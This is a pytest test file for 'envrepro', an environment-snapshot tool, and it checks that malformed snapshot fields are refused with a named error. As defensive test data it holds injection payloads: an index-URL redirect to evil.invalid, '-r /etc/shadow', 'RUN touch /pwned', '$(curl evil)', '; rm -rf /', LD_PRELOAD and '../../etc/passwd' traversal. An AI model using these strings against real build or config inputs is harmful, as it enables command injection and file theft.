"""Loading validates every snapshot field to its real-world grammar; a bad one is exit 2 naming the field."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from envrepro import snapshot
from envrepro.errors import SnapshotFormatError

CASES = Path(__file__).parent / "cases"
ROOT = Path(__file__).resolve().parent.parent
FIXTURES = [
    *sorted(CASES.glob("*/envrepro.lock.json")),
    ROOT / "examples" / "tiny-model" / "envrepro.snapshot.json",
]
CPU = CASES / "tf221-cpu-snapshot" / "envrepro.lock.json"
TINY = ROOT / "examples" / "tiny-model" / "envrepro.snapshot.json"


def document(path: Path = CPU) -> dict[str, Any]:
    return json.loads(path.read_text(encoding="utf-8"))  # type: ignore[no-any-return]


def refusal(doc: dict[str, Any] | str | bytes) -> str:
    """The reason SnapshotFormatError gives for `doc` (which must be refused)."""
    data = doc if isinstance(doc, (str, bytes)) else json.dumps(doc)
    with pytest.raises(SnapshotFormatError) as info:
        snapshot.parse(data, Path("s.json"))
    return info.value.reason


def changed(change: Callable[[dict[str, Any]], object], path: Path = CPU) -> dict[str, Any]:
    doc = copy.deepcopy(document(path))
    change(doc)
    return doc


@pytest.mark.parametrize("path", FIXTURES, ids=lambda p: p.parent.name)
def test_every_recorded_snapshot_still_loads_and_writes_back_identically(path: Path) -> None:
    snap = snapshot.load(path)
    assert json.loads(snap.to_json()) == document(path)


def dist_version(value: object) -> Callable[[dict[str, Any]], object]:
    return lambda doc: doc["environment"]["distributions"][3].update(version=value)


@pytest.mark.parametrize(
    "version",
    ["2.1.0+cu118", "1!2.0", "2.16.0rc0", "2.16.0-rc0", "2.17.0.dev20240301", "1.0.post1", "2026.10.18"],
)
def test_real_world_versions_are_accepted_with_their_local_label(version: str) -> None:
    snap = snapshot.parse(json.dumps(changed(dist_version(version))), Path("s.json"))
    assert snap.environment.distributions[3].version == version


@pytest.mark.parametrize(
    ("change", "pointer", "rule"),
    [
        (
            dist_version("2.21.0\n--index-url http://evil.invalid/simple"),
            "/environment/distributions/3/version",
            "PEP 440",
        ),
        (dist_version(" 2.21.0"), "/environment/distributions/3/version", "PEP 440"),
        (dist_version("latest"), "/environment/distributions/3/version", "PEP 440"),
        (dist_version(2), "/environment/distributions/3/version", "valid string"),
        (
            lambda d: d["environment"]["distributions"][0].update(name="\n-r /etc/shadow"),
            "/environment/distributions/0/name",
            "PEP 508",
        ),
        (
            lambda d: d["environment"]["tensorflow"].update(version="2.21.0\nRUN touch /pwned"),
            "/environment/tensorflow/version",
            "PEP 440",
        ),
        (
            lambda d: d["environment"]["python"].update(version="3.11.7\nRUN touch /pwned"),
            "/environment/python/version",
            "Python version",
        ),
        (lambda d: d["environment"]["python"].update(version="3.11"), "/environment/python/version", "x.y.z"),
        (
            lambda d: d["environment"]["env"].update(LD_PRELOAD="/x.so"),
            "/environment/env/LD_PRELOAD",
            "numerics",
        ),
        (
            lambda d: d["environment"]["env"].update(TF_XLA_FLAGS="$(curl evil)"),
            "/environment/env/TF_XLA_FLAGS",
            "allowed variable value",
        ),
        (
            lambda d: d["environment"]["env"].update(OMP_NUM_THREADS="1\x1b[31m"),
            "/environment/env/OMP_NUM_THREADS",
            "allowed variable value",
        ),
        (
            lambda d: d["environment"]["distributions"][0]["origin"].update(url="javascript://x"),
            "/environment/distributions/0/origin/url",
            "scheme",
        ),
        (
            lambda d: d["environment"]["distributions"][0]["origin"].update(url="https://a b"),
            "/environment/distributions/0/origin/url",
            "whitespace",
        ),
        (
            lambda d: d["environment"]["cpu"].update(logical_cpus=True),
            "/environment/cpu/logical_cpus",
            "integer",
        ),
        (
            lambda d: d["environment"]["cpu"].update(logical_cpus="2"),
            "/environment/cpu/logical_cpus",
            "integer",
        ),
        (lambda d: d["environment"]["cpu"].update(logical_cpus=-1), "/environment/cpu/logical_cpus", "0"),
        (lambda d: d["environment"]["cpu"].update(model="AMD\nEPYC"), "/environment/cpu/model", "printable"),
        (lambda d: d["environment"]["cpu"].update(extra=1), "/environment/cpu/extra", "Extra inputs"),
        (lambda d: d["environment"]["cpu"].pop("flags"), "/environment/cpu/flags", "required"),
        (
            lambda d: d["environment"]["tensorflow"]["build_info"].update(cuda_version="12.5 or later"),
            "/environment/tensorflow/build_info",
            "dotted version",
        ),
        (lambda d: d.update(created_at="yesterday"), "/created_at", "timestamp"),
        (lambda d: d.update(envrepro_version="0.1.0\n"), "/envrepro_version", "PEP 440"),
    ],
)
def test_a_field_outside_its_grammar_is_refused_naming_its_json_pointer_and_rule(
    change: Callable[[dict[str, Any]], object], pointer: str, rule: str
) -> None:
    reason = refusal(changed(change))
    assert reason.startswith(pointer + ": "), reason
    assert rule in reason
    assert "\n" not in reason and "\x1b" not in reason


@pytest.mark.parametrize(
    ("file", "rule"),
    [
        ("../../etc/passwd", "no `..`"),
        ("/etc/passwd", "relative path"),
        ("envrepro.lock.ref/../../x.npz", "no `..`"),
        ("C:/x.npz", "relative path"),
        ("a\\..\\b.npz", "relative path"),
    ],
)
def test_a_reference_file_must_stay_inside_the_snapshots_directory(file: str, rule: str) -> None:
    reason = refusal(changed(lambda d: d["models"][0]["reference"].update(file=file), TINY))
    assert reason.startswith("/models/0/reference/file: ")
    assert rule in reason


def test_digests_are_sha256_hex() -> None:
    reason = refusal(changed(lambda d: d["models"][0].update(file_sha256="abc"), TINY))
    assert reason.startswith("/models/0/file_sha256: ") and "sha256" in reason


def test_a_key_with_a_slash_or_control_character_is_escaped_in_the_pointer() -> None:
    reason = refusal(changed(lambda d: d["environment"]["env"].update({"A/B~\n": "1"})))
    assert reason.startswith("/environment/env/A~1B~0\\n: ")


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (b"\xff\xfe{}", "not UTF-8"),
        ('{"a": 1, "a": 2}', "duplicate key"),
        ('{"schema_version": NaN}', "not JSON"),
        ("[1]", "not a JSON object"),
        ('{"schema_version": true}', "schema_version True"),
        ("[" * 100_000, "not JSON"),
    ],
)
def test_documents_that_are_not_clean_json_objects_are_refused(data: str | bytes, rule: str) -> None:
    assert rule in refusal(data)


def test_an_oversized_snapshot_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
    big = tmp_path / "big.json"
    big.write_bytes(b" " * (snapshot.MAX_SNAPSHOT_BYTES + 1))
    with pytest.raises(SnapshotFormatError, match="larger than"):
        snapshot.load(big)


@pytest.mark.parametrize("command", ["show", "build", "parity", "diff"])
def test_a_snapshot_that_is_not_utf8_is_exit_2_in_every_command(cli, tmp_path: Path, command: str) -> None:  # type: ignore[no-untyped-def]
    bad = tmp_path / "latin1.json"
    bad.write_bytes(CPU.read_bytes().replace(b'"AMD EPYC"', '"AMD \xc9PYC"'.encode("latin-1")))
    model = tmp_path / "m.h5"
    model.write_bytes(b"")
    argv = {
        "show": ["show", str(bad)],
        "build": ["build", "--snapshot", str(bad), "--render-only", "--out", str(tmp_path / "out")],
        "parity": ["parity", "--snapshot", str(bad), "--model", str(model)],
        "diff": ["diff", str(bad), str(CPU)],
    }[command]
    result = cli(*argv)
    assert result.exit_code == 2
    assert len(result.error_lines) == 1
    assert "not UTF-8" in result.error_lines[0]
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize(
    "spec", ["mypkg.data:preprocess", "training/normalise.py:normalise", "/abs/prep.py:fn"]
)
def test_a_recorded_preprocessing_function_has_the_shape_preprocess_takes(spec: str) -> None:
    doc = changed(lambda d: d.update(preprocessing={"function": spec}))
    assert snapshot.parse(json.dumps(doc), Path("s.json")).preprocessing is not None
    bad = changed(lambda d: d.update(preprocessing={"function": spec + "; rm -rf /"}))
    assert refusal(bad).startswith("/preprocessing/function: ")


def test_an_os_package_version_is_recorded_as_not_reproducible_instead_of_failing_the_snapshot() -> None:
    """A system Python (Ubuntu, Debian) carries distributions like `distro-info 1.1build1`: not PEP 440.
    Snapshotting such an environment must work; the build then names them (not reproducible)."""
    from envrepro.record import _with_reproducibility

    raw = {"name": "distro-info", "version": "1.1build1", "installer": "", "requested": False,
           "origin": {"kind": "index", "url": "", "detail": ""}}  # fmt: skip
    dist = _with_reproducibility(raw)
    assert not dist.reproducible
    assert "not a PEP 440 version" in dist.reason
    assert "--exclude distro-info" in dist.reason


def test_a_reproducible_distribution_still_needs_a_pep440_version() -> None:
    def os_version(doc: dict[str, Any]) -> None:
        doc["environment"]["distributions"][0]["version"] = "1.1build1"

    assert "is not a PEP 440 version" in refusal(changed(os_version))

    def marked(doc: dict[str, Any]) -> None:
        os_version(doc)
        doc["environment"]["distributions"][0]["reproducible"] = False
        doc["environment"]["distributions"][0]["reason"] = "an OS package"

    assert (
        snapshot.parse(json.dumps(changed(marked)), CPU).environment.distributions[0].version == "1.1build1"
    )
